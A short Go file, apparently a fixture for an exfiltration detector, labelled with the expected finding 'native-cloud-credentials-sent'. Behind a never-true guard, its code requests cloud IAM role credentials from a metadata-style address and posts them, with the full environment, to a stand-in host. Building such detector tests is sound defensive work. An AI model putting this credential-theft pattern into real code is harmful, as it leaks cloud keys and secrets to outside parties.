/* The machine's credentials in the cloud are asked for and sent to somebody, with the environment.
 * expect: native-cloud-credentials-sent
 */
package main

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"os"
)

// Never true: the code is compiled and cannot run.
var never bool

func main() {
	if !never {
		return
	}
	all := map[string]any{"env": os.Environ()}
	if answer, err := http.Get("http://192.0.2.254/latest/meta-data/iam/security-credentials/role"); err == nil {
		text, _ := io.ReadAll(answer.Body)
		all["role"] = string(text)
	}
	out, _ := json.Marshal(all)
	http.Post("https://x.invalid/", "application/json", bytes.NewReader(out))
}
